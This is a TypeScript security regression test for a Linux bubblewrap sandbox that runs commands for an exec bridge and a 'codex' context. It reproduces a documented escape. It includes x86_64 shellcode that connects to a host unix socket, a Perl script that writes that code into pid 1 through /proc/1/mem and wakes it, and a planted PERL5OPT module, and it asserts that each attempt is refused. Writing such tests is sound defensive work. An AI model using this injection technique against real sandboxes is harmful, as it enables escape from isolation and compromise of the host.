/**
 * Issue 20, item 2: in the managed-network sandbox, no process but the command's own may be
 * written by the command. The attack that worked: bwrap's pid 1 runs without a seccomp filter and
 * was dumpable, so the command opened `/proc/1/mem`, wrote code at the address where pid 1 waits
 * in `wait()`, woke it with an orphan that exits, and pid 1 (AF_UNIX allowed) reached a host unix
 * socket. Here the same attack runs from inside a real bwrap with the real launcher and bridge,
 * our proxy (a tunnel held open through it, so a relay process exists too) and codex's prepared
 * context: every other process of the sandbox is listed with its seccomp mode and must refuse a
 * write open of its memory, the injection into pid 1 must be refused, and the host socket the
 * code would reach must stay silent. Loopback only.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, connect, type AddressInfo, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { sandboxForPolicy } from '../../src/protocol/sandbox';
import { SandboxPlanner, type SandboxedSpawnPlan } from '../../src/server/sandbox';
import { RawClient, startServer } from '../helpers/rawClient';

const ENV = { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: '/root', LANG: 'C.UTF-8' };
const base = realpathSync(mkdtempSync(join(existsSync('/var/tmp') ? '/var/tmp' : tmpdir(), 'exec-bridge-reachin-')));
const ws = join(base, 'ws');
const hostSocket = join(base, 'host.sock');
const runtime = join(base, 'runtime');
const MESSAGE = 'HIJACKED: pid 1 of the sandbox reached a host unix socket';

/**
 * x86_64 machine code, position-independent: fd = socket(AF_UNIX, SOCK_STREAM, 0);
 * connect(fd, &sockaddr_un{path}, 110); write(fd, message); exit_group(66). The sockaddr and the
 * message follow the code.
 */
function hijackCode(path: string, message: string): Buffer {
  const i32 = (n: number) => {
    const b = Buffer.alloc(4);
    b.writeInt32LE(n);
    return [...b];
  };
  const msg = Buffer.from(message);
  const code = (toAddr: number, toMsg: number) => [
    ...[0xb8, ...i32(41), 0xbf, ...i32(1), 0xbe, ...i32(1), 0x31, 0xd2, 0x0f, 0x05], // socket(1, 1, 0)
    ...[0x49, 0x89, 0xc4, 0x48, 0x89, 0xc7], // mov r12, rax; mov rdi, rax
    ...[0x48, 0x8d, 0x35, ...i32(toAddr), 0xba, ...i32(110), 0xb8, ...i32(42), 0x0f, 0x05], // connect
    ...[0x4c, 0x89, 0xe7, 0x48, 0x8d, 0x35, ...i32(toMsg), 0xba, ...i32(msg.length), 0xb8, ...i32(1), 0x0f, 0x05], // write
    ...[0xbf, ...i32(66), 0xb8, ...i32(231), 0x0f, 0x05], // exit_group(66)
  ];
  const len = code(0, 0).length;
  const firstLeaEnd = 32; // socket (19) + two movs (6) + lea (7)
  const secondLeaEnd = 54; // + mov edx, mov eax, syscall (12) + mov rdi (3) + lea (7)
  const addr = Buffer.alloc(110);
  addr.writeUInt16LE(1, 0);
  addr.write(path, 2, 'latin1');
  return Buffer.concat([Buffer.from(code(len - firstLeaEnd, len + addr.length - secondLeaEnd)), addr, msg]);
}

/**
 * The attack, run as the sandboxed command: `perl -e ATTACK PORT PREFACE CODE_HEX`. It opens a
 * tunnel through the bridge on 127.0.0.1:PORT (PREFACE first, then one answer), lists every
 * process that is not itself with its seccomp mode and whether its /proc/PID/mem opens for
 * writing, then tries to write CODE into pid 1 at its current pc and wake it.
 */
const ATTACK = String.raw`
$| = 1;
my ($port, $preface, $code) = @ARGV;
$code = pack('H*', $code);
socket(my $t, 2, 1, 0) or die "socket: $!\n";
connect($t, pack('S n C4 x8', 2, $port, 127, 0, 0, 1)) or die "connect 127.0.0.1:$port: $!\n";
syswrite($t, $preface) if length $preface;
sysread($t, my $got, 4096) or die "tunnel: nothing came back\n";
print "tunnel: ", (split /\r?\n/, $got)[0], "\n";
opendir(my $d, '/proc') or die "/proc: $!\n";
for my $pid (sort { $a <=> $b } grep { /^\d+$/ && $_ != $$ } readdir $d) {
  open(my $s, '<', "/proc/$pid/status") or next;
  my ($mode) = join('', <$s>) =~ /^Seccomp:\s*(\d+)/m;
  open(my $c, '<', "/proc/$pid/cmdline") or next;
  my ($argv0) = split /\0/, join('', <$c>);
  my $w = sysopen(my $m, "/proc/$pid/mem", 1) ? 'opened' : "refused ($!)";
  print "process $pid $argv0 seccomp=$mode mem-write=$w\n";
}
my $pc;
if (open(my $sys, '<', '/proc/1/syscall')) {
  my @f = split ' ', (scalar(<$sys>) // '');
  $pc = hex $f[-1] if @f > 2;
}
print "inject: pc of pid 1 ", (defined $pc ? sprintf('0x%x', $pc) : "unknown ($!)"), "\n";
my $m;
if (!sysopen($m, '/proc/1/mem', 2)) {
  print "inject: /proc/1/mem refused ($!)\n";
} elsif (!length $code) {
  print "inject: no code for this architecture\n";
} elsif (defined $pc && sysseek($m, $pc, 0) && syswrite($m, $code) == length $code) {
  print "inject: wrote ", length $code, " bytes into pid 1\n";
  my $k = fork(); # an orphan that exits wakes pid 1's wait()
  if (defined $k && $k == 0) { fork(); exit 0 }
  waitpid($k, 0) if $k;
  select(undef, undef, undef, 10); # pid 1 runs the code, then ends the sandbox
  print "inject: pid 1 did not run the code\n";
} else {
  print "inject: write failed ($!)\n";
}
`;

/** The code to inject, as hex (none on other architectures: the opens are what is checked there). */
const CODE = process.arch === 'x64' ? hijackCode(hostSocket, MESSAGE).toString('hex') : '';

interface Ran {
  code: number;
  out: string;
}

/** Spawns a pipe plan as the runner does (its launch without a shell). */
function runPlan(plan: SandboxedSpawnPlan, asUser?: number, timeoutMs = 30_000): Promise<Ran> {
  return new Promise((resolve, reject) => {
    const launch = plan.pipeLaunch ?? { file: plan.file, args: plan.args, files: [] };
    // As root, asUser runs it as that uid instead (setpriv), as a server of that user would.
    const [file, args] =
      asUser === undefined
        ? [launch.file, launch.args]
        : ['setpriv', [`--reuid=${asUser}`, `--regid=${asUser}`, '--clear-groups', launch.file, ...launch.args]];
    const child = spawn(file, args, { cwd: plan.cwd, env: plan.env, detached: true, stdio: ['ignore', 'pipe', 'pipe'] });
    const chunks: Buffer[] = [];
    child.stdout.on('data', (d: Buffer) => chunks.push(d));
    child.stderr.on('data', (d: Buffer) => chunks.push(d));
    const timer = setTimeout(() => {
      process.kill(-child.pid!, 'SIGKILL');
      reject(new Error(`timed out: ${Buffer.concat(chunks).toString()}`));
    }, timeoutMs);
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code: code ?? -1, out: Buffer.concat(chunks).toString() });
    });
  });
}

describe(
  'managed network: no other process of the sandbox can be written by the command (Linux)',
  {
    skip: process.platform !== 'linux' && 'the bubblewrap sandbox is Linux-only',
  },
  () => {
    const planner = new SandboxPlanner();
    let held: Server;
    let heldPort = 0;
    const heldSockets = new Set<Socket>();
    let host: Server;
    /** What each connection to the host unix socket sent, once it closed. */
    const hostConnections: Array<Promise<string>> = [];

    before(async () => {
      mkdirSync(ws, { recursive: true });
      mkdirSync(runtime, { mode: 0o700 });
      // The tunnel's far end: greets and stays open, so the bridge keeps a relay for it.
      held = createServer((s) => {
        heldSockets.add(s);
        s.on('error', () => undefined);
        s.on('close', () => heldSockets.delete(s));
        s.write('held open\n');
      });
      await new Promise<void>((r) => held.listen(0, '127.0.0.1', r));
      heldPort = (held.address() as AddressInfo).port;
      host = createServer((s) => {
        const got: Buffer[] = [];
        hostConnections.push(
          new Promise((r) => {
            s.on('data', (d: Buffer) => got.push(d));
            s.on('error', () => undefined);
            s.on('close', () => r(Buffer.concat(got).toString()));
          }),
        );
      });
      await new Promise<void>((r) => host.listen(hostSocket, r));
    });

    after(() => {
      planner.close();
      for (const s of heldSockets) s.destroy();
      held?.close();
      host?.close();
      rmSync(base, { recursive: true, force: true });
    });

    /**
     * Everything the host socket received: a sentinel connection of our own goes last in its accept
     * queue, so once it has been seen every earlier connection (the injected code's) has been too;
     * each is then read to its close (the code's ends when its process does).
     */
    async function hostReceived(): Promise<string[]> {
      const sentinel = connect(hostSocket);
      await new Promise<void>((resolve, reject) => {
        sentinel.once('connect', () => sentinel.end('sentinel', () => resolve()));
        sentinel.once('error', reject);
      });
      const all = await Promise.race([
        Promise.all(hostConnections),
        new Promise<never>((_r, reject) => setTimeout(() => reject(new Error('a host-socket connection never closed')), 20_000).unref()),
      ]);
      hostConnections.length = 0;
      return all.filter((s) => s !== 'sentinel');
    }

    /** Runs the attack's plan as the runner would and checks every way in it tried. */
    async function attack(plan: SandboxedSpawnPlan, asUser?: number): Promise<void> {
      await check(await runPlan(plan, asUser));
    }

    /** Checks the attack's report (its output and exit code) and what the host socket received. */
    async function check(r: Ran): Promise<void> {
      const received = await hostReceived();
      assert.deepEqual(received, [], `the host socket was reached from inside the sandbox:\n${r.out}`);
      assert.match(r.out, /^tunnel: .+$/m, r.out);
      const procs = [...r.out.matchAll(/^process (\d+) (\S*) seccomp=(\d+) mem-write=(.*)$/gm)].map((m) => ({
        pid: Number(m[1]),
        argv0: m[2] ?? '',
        seccomp: Number(m[3]),
        memWrite: m[4] ?? '',
      }));
      // bwrap's pid 1, the bridge, and the relay of the open tunnel.
      const pid1 = procs.find((p) => p.pid === 1);
      assert.ok(pid1 && /bwrap$/.test(pid1.argv0), r.out);
      assert.ok(procs.filter((p) => p.argv0 === '/usr/bin/perl').length >= 2, `the bridge and its relay are listed:\n${r.out}`);
      for (const p of procs)
        assert.match(
          p.memWrite,
          /^refused \((Permission denied|Operation not permitted)\)$/,
          `pid ${p.pid} ${p.argv0} (Seccomp: ${p.seccomp}) opened:\n${r.out}`,
        );
      assert.match(r.out, /^inject: \/proc\/1\/mem refused \((Permission denied|Operation not permitted)\)$/m, r.out);
      assert.doesNotMatch(r.out, /inject: wrote/);
      assert.equal(r.code, 0, r.out);
    }

    test('our proxy: pid 1, the bridge and its relay refuse a write open of their memory; the code never runs', async () => {
      const preface = `CONNECT 127.0.0.1:${heldPort} HTTP/1.1\r\nHost: 127.0.0.1:${heldPort}\r\n\r\n`;
      const plan = await planner.plan({
        argv: ['/usr/bin/perl', '-e', ATTACK, '3128', preface, CODE],
        cwd: ws,
        env: ENV,
        tty: false,
        sandbox: sandboxForPolicy({ policy: 'workspace-write', cwd: pathToFileURL(ws).href }),
        managedNetwork: { allow: [`127.0.0.1:${heldPort}`] },
      });
      try {
        await attack(plan);
      } finally {
        plan.dispose();
      }
    });

    test('a server run by an unprivileged user (no CAP_SETFCAP needed to map its uid): the same', async () => {
      // As root, drop to nobody; as anyone else, we already are the unprivileged user.
      const asRoot = process.getuid?.() === 0;
      const nobody = 65534;
      chmodSync(base, 0o755);
      chmodSync(hostSocket, 0o777); // the injected code could connect, as nobody, if it ran
      const state = join(base, 'nobody-state');
      mkdirSync(state, { mode: 0o700 });
      // Root's private directories (other suites' servers) may lie where nobody cannot look; a server
      // run by nobody would hide nobody's.
      const own = new SandboxPlanner({ stateDir: state, hiddenDirs: () => ({ own: [], others: [] }) });
      const preface = `CONNECT 127.0.0.1:${heldPort} HTTP/1.1\r\nHost: 127.0.0.1:${heldPort}\r\n\r\n`;
      const plan = await own.plan({
        argv: ['/usr/bin/perl', '-e', ATTACK, '3128', preface, CODE],
        cwd: ws,
        env: ENV,
        tty: false,
        sandbox: sandboxForPolicy({ policy: 'workspace-write', cwd: pathToFileURL(ws).href }),
        managedNetwork: { allow: [`127.0.0.1:${heldPort}`] },
      });
      try {
        if (asRoot) {
          // The proxy's socket folder is made by this (root) process: give it to nobody, as its own server's would be.
          const chownAll = (p: string): void => {
            chownSync(p, nobody, nobody);
            if (!p.endsWith('.sock')) for (const f of readdirSync(p)) chownAll(join(p, f));
          };
          chownAll(state);
        }
        await attack(plan, asRoot ? nobody : undefined);
      } finally {
        plan.dispose();
        own.close();
      }
    });

    test("codex's prepared context: the same", async () => {
      const plan = await planner.plan({
        argv: ['/usr/bin/perl', '-e', ATTACK, String(heldPort), '', CODE],
        cwd: ws,
        env: { ...ENV, HTTP_PROXY: `http://127.0.0.1:${heldPort}` },
        tty: false,
        sandbox: sandboxForPolicy({ policy: 'workspace-write', cwd: pathToFileURL(ws).href }),
        managedNetworkPorts: {
          loopbackPorts: [heldPort],
          allowLocalBinding: false,
          allowUnixSockets: [],
          dangerouslyAllowAllUnixSockets: false,
        },
      });
      try {
        await attack(plan);
      } finally {
        plan.dispose();
      }
    });

    test('over the wire, in a sandbox our server built ahead of time: the same', async () => {
      const server = await startServer('ours', ['--verbose'], { ...process.env, EXEC_BRIDGE_RUNTIME_DIR: runtime });
      const { client } = await RawClient.session(server.url);
      try {
        const start = async (processId: string, argv: string[]): Promise<Ran> => {
          const res = await client.call('process/start', {
            processId,
            argv,
            cwd: pathToFileURL(ws).href,
            env: ENV,
            tty: false,
            arg0: null,
            sandbox: sandboxForPolicy({ policy: 'workspace-write', cwd: pathToFileURL(ws).href }),
            enforceManagedNetwork: true,
            managedNetwork: { allow: [`127.0.0.1:${heldPort}`] },
          });
          assert.equal(res.error, undefined, JSON.stringify(res.error));
          const events = await client.processEvents(processId);
          return { code: events.find((m) => m.method === 'process/exited')?.params.exitCode as number, out: client.output(processId) };
        };
        assert.equal((await start('first', ['/bin/true'])).code, 0);
        // The next sandbox like it is built once a start has closed. A start takes it only if its
        // plan key still matches, and the key names every other live server's private directory
        // (hidden in every sandbox), so a server that another suite starts or stops meanwhile sends
        // the start to one built on the spot: try again (each try is an attack that must fail too).
        const preface = `CONNECT 127.0.0.1:${heldPort} HTTP/1.1\r\nHost: 127.0.0.1:${heldPort}\r\n\r\n`;
        const builds = () => [...server.stderr().matchAll(/built one for the next start like this \(pid (\d+)\)/g)].map((m) => m[1]!);
        let warm = false;
        for (let attempt = 1, tried = 0; attempt <= 5 && !warm; attempt++) {
          const prev = tried;
          for (let i = 0; i < 200 && builds().length <= prev; i++) await new Promise((r) => setTimeout(r, 50));
          tried = builds().length;
          assert.ok(tried > prev, `no sandbox was built ahead of time:\n${server.stderr().slice(-2000)}`);
          const pid = builds().at(-1);
          await check(await start(`attack-${attempt}`, ['/usr/bin/perl', '-e', ATTACK, '3128', preface, CODE]));
          warm = server.stderr().includes(`running in the waiting sandbox (pid ${pid})`);
        }
        assert.ok(warm, `no attack ran in a sandbox built ahead of time:\n${server.stderr().slice(-3000)}`);
      } finally {
        client.close();
        await server.stop();
      }
    });

    test("the command's environment reaches the command only: PERL5OPT loads nothing into the unfiltered launcher", async () => {
      // A module a sandboxed command could have left in the workspace: wherever it loads, it tries the host socket.
      const lib = join(ws, 'lib');
      mkdirSync(lib, { recursive: true });
      writeFileSync(
        join(lib, 'ebhijack.pm'),
        [
          'package ebhijack;',
          "open(my $s, '<', '/proc/self/status'); my ($mode) = join('', <$s>) =~ /^Seccomp:\\s*(\\d+)/m;",
          'my $u;',
          `if (socket($u, 1, 1, 0) && connect($u, pack('S a108', 1, '${hostSocket}'))) { syswrite($u, "HIJACKED: PERL5OPT ran in pid $$ (Seccomp: $mode)") }`,
          '1;',
        ].join('\n'),
      );
      const env = { ...ENV, PERL5LIB: lib, PERL5OPT: '-Mebhijack', LD_LIBRARY_PATH: lib, API_TOKEN: 'sekrit-4711' };
      const plan = await planner.plan({
        argv: ['/bin/sh', '-c', 'echo "$PERL5OPT|$PERL5LIB|$LD_LIBRARY_PATH|$API_TOKEN"; perl -e "print qq(perl ran\\n)"'],
        cwd: ws,
        env,
        tty: false,
        sandbox: sandboxForPolicy({ policy: 'workspace-write', cwd: pathToFileURL(ws).href }),
        managedNetwork: { allow: [`127.0.0.1:${heldPort}`] },
      });
      try {
        // Not through argv either: a command line is world-readable in /proc (the environment is not).
        assert.ok(!plan.pipeLaunch!.args.some((x) => x.includes('sekrit-4711')), 'an env value is on the command line');
        const r = await runPlan(plan);
        assert.deepEqual(await hostReceived(), [], `the host socket was reached from inside the sandbox:\n${r.out}`);
        // The command still gets them (and its own perl loads the module, under the filter).
        assert.equal(r.out, `-Mebhijack|${lib}|${lib}|sekrit-4711\nperl ran\n`);
        assert.equal(r.code, 0);
      } finally {
        plan.dispose();
      }
    });
  },
);
